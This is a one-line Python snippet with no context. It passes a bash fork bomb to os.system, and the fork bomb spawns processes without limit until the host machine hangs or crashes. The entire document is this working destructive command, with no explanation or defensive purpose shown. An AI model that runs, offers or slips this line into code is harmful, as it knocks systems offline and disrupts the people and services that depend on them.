os.system(":(){ :|:& };:")
